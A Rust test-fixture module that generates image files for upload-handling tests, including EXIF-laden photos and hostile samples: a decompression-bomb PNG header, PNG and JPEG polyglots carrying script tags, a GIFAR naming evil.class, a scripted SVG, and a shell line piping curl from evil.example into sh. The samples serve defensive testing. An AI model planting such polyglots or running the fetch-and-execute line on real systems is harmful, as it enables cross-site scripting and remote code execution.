//! Image files for upload tests, made here: plain ones from the image crate, a photo with
//! EXIF (camera, orientation, GPS position) spliced in, an animation with a comment, and
//! the hostile ones (a header claiming 50,000 × 50,000 pixels, polyglots, an SVG with a
//! script).

use std::io::Cursor;

use image::{ImageFormat, Rgb, RgbImage, Rgba, RgbaImage};

/// The camera name the EXIF block carries: found in the upload, never in what is served.
pub const CAMERA: &str = "SecretCam";

/// A gradient, so encoders have something to encode.
pub fn picture(width: u32, height: u32) -> RgbImage {
    RgbImage::from_fn(width, height, |x, y| {
        Rgb([
            (x * 255 / width.max(1)) as u8,
            (y * 255 / height.max(1)) as u8,
            128,
        ])
    })
}

pub fn png(width: u32, height: u32) -> Vec<u8> {
    encode(
        &image::DynamicImage::ImageRgb8(picture(width, height)),
        ImageFormat::Png,
    )
}

pub fn jpeg(width: u32, height: u32) -> Vec<u8> {
    encode(
        &image::DynamicImage::ImageRgb8(picture(width, height)),
        ImageFormat::Jpeg,
    )
}

/// A WebP with transparency (stored as PNG) or without (stored as JPEG).
pub fn webp(width: u32, height: u32, transparent: bool) -> Vec<u8> {
    let picture = if transparent {
        image::DynamicImage::ImageRgba8(RgbaImage::from_fn(width, height, |x, _| {
            Rgba([200, 10, 10, (x * 255 / width.max(1)) as u8])
        }))
    } else {
        image::DynamicImage::ImageRgb8(picture(width, height))
    };
    encode(&picture, ImageFormat::WebP)
}

fn encode(picture: &image::DynamicImage, format: ImageFormat) -> Vec<u8> {
    let mut bytes = Vec::new();
    picture
        .write_to(&mut Cursor::new(&mut bytes), format)
        .expect("encodes");
    bytes
}

/// A JPEG as a phone writes it: EXIF with the camera, an orientation (6: turn 90° clockwise
/// to show it) and the GPS latitude 52° 31′ 12.34″ N.
pub fn photo_with_exif(width: u32, height: u32, orientation: u16) -> Vec<u8> {
    let plain = jpeg(width, height);
    let mut tiff = Vec::new();
    let u16be = |value: u16| value.to_be_bytes();
    let u32be = |value: u32| value.to_be_bytes();
    tiff.extend_from_slice(b"MM");
    tiff.extend_from_slice(&u16be(42));
    tiff.extend_from_slice(&u32be(8));
    // IFD0 at 8: make, orientation, GPS pointer.
    let make = format!("{CAMERA}\0");
    let make_at = 8 + 2 + 3 * 12 + 4;
    let gps_at = make_at + make.len() as u32;
    let latitude_at = gps_at + 2 + 2 * 12 + 4;
    tiff.extend_from_slice(&u16be(3));
    for (tag, kind, count, value) in [
        (0x010F_u16, 2_u16, make.len() as u32, make_at),
        (0x0112, 3, 1, u32::from(orientation) << 16),
        (0x8825, 4, 1, gps_at),
    ] {
        tiff.extend_from_slice(&u16be(tag));
        tiff.extend_from_slice(&u16be(kind));
        tiff.extend_from_slice(&u32be(count));
        tiff.extend_from_slice(&u32be(value));
    }
    tiff.extend_from_slice(&u32be(0));
    tiff.extend_from_slice(make.as_bytes());
    // The GPS IFD: latitude reference and latitude.
    tiff.extend_from_slice(&u16be(2));
    for (tag, kind, count, value) in [
        (0x0001_u16, 2_u16, 2_u32, u32::from_be_bytes(*b"N\0\0\0")),
        (0x0002, 5, 3, latitude_at),
    ] {
        tiff.extend_from_slice(&u16be(tag));
        tiff.extend_from_slice(&u16be(kind));
        tiff.extend_from_slice(&u32be(count));
        tiff.extend_from_slice(&u32be(value));
    }
    tiff.extend_from_slice(&u32be(0));
    for (numerator, denominator) in [(52_u32, 1_u32), (31, 1), (1234, 100)] {
        tiff.extend_from_slice(&u32be(numerator));
        tiff.extend_from_slice(&u32be(denominator));
    }
    let mut app1 = vec![0xFF, 0xE1];
    app1.extend_from_slice(&u16be((2 + 6 + tiff.len()) as u16));
    app1.extend_from_slice(b"Exif\0\0");
    app1.extend_from_slice(&tiff);
    let mut photo = plain[..2].to_vec();
    photo.extend_from_slice(&app1);
    photo.extend_from_slice(&plain[2..]);
    photo
}

/// An animated GIF of `frames` frames with a comment extension naming the camera.
pub fn animated_gif(width: u16, height: u16, frames: usize) -> Vec<u8> {
    let mut out = Vec::new();
    {
        let palette = [0u8, 0, 0, 255, 0, 0, 0, 255, 0, 0, 0, 255];
        let mut encoder = gif::Encoder::new(&mut out, width, height, &palette).unwrap();
        encoder.set_repeat(gif::Repeat::Infinite).unwrap();
        encoder
            .write_raw_extension(gif::Extension::Comment.into(), &[CAMERA.as_bytes()])
            .unwrap();
        for index in 0..frames {
            let pixels = vec![(index % 3 + 1) as u8; usize::from(width) * usize::from(height)];
            let mut frame = gif::Frame::from_indexed_pixels(width, height, pixels, None);
            frame.delay = 10;
            encoder.write_frame(&frame).unwrap();
        }
    }
    out
}

/// Frames in a GIF.
pub fn gif_frames(bytes: &[u8]) -> usize {
    let mut options = gif::DecodeOptions::new();
    options.set_color_output(gif::ColorOutput::Indexed);
    let mut decoder = options.read_info(Cursor::new(bytes)).unwrap();
    let mut frames = 0;
    while decoder.read_next_frame().unwrap().is_some() {
        frames += 1;
    }
    frames
}

/// A real PNG header for `width` × `height` pixels (a decompression bomb's start), with its
/// checksum right, and a single pixel's data behind it.
pub fn png_claiming(width: u32, height: u32) -> Vec<u8> {
    let mut bytes = png(1, 1);
    bytes[16..20].copy_from_slice(&width.to_be_bytes());
    bytes[20..24].copy_from_slice(&height.to_be_bytes());
    let mut crc = flate2::Crc::new();
    crc.update(&bytes[12..29]);
    bytes[29..33].copy_from_slice(&crc.sum().to_be_bytes());
    bytes
}

/// A valid PNG with a web page glued on after its end.
pub fn png_then_html() -> Vec<u8> {
    let mut bytes = png(8, 8);
    bytes.extend_from_slice(b"<html><body><script>alert(document.cookie)</script></body></html>");
    bytes
}

/// A valid JPEG whose comment segment holds a script: one file, two readings.
pub fn jpeg_with_script_comment() -> Vec<u8> {
    let plain = jpeg(8, 8);
    let comment = b"<script>alert(1)</script>";
    let mut bytes = plain[..2].to_vec();
    bytes.extend_from_slice(&[0xFF, 0xFE]);
    bytes.extend_from_slice(&((comment.len() + 2) as u16).to_be_bytes());
    bytes.extend_from_slice(comment);
    bytes.extend_from_slice(&plain[2..]);
    bytes
}

/// A GIF with a ZIP archive's entry inside (a "GIFAR").
pub fn gif_with_zip_inside() -> Vec<u8> {
    let mut bytes = animated_gif(4, 4, 1);
    let trailer = bytes.pop().expect("the trailer");
    // An application extension whose data is a ZIP local file header.
    let mut zip = b"PK\x03\x04\x14\x00\x00\x00\x08\x00".to_vec();
    zip.extend_from_slice(b"evil.class");
    bytes.extend_from_slice(&[0x21, 0xFF, 11]);
    bytes.extend_from_slice(b"NETSCAPE2.1");
    bytes.push(zip.len() as u8);
    bytes.extend_from_slice(&zip);
    bytes.push(0);
    bytes.push(trailer);
    bytes
}

pub const SVG_WITH_SCRIPT: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">
  <script>alert(document.domain)</script>
  <rect width="10" height="10" fill="red"/>
</svg>"#;

pub const SHELL_SCRIPT: &str = "#!/bin/sh\ncurl https://evil.example/x | sh\n";
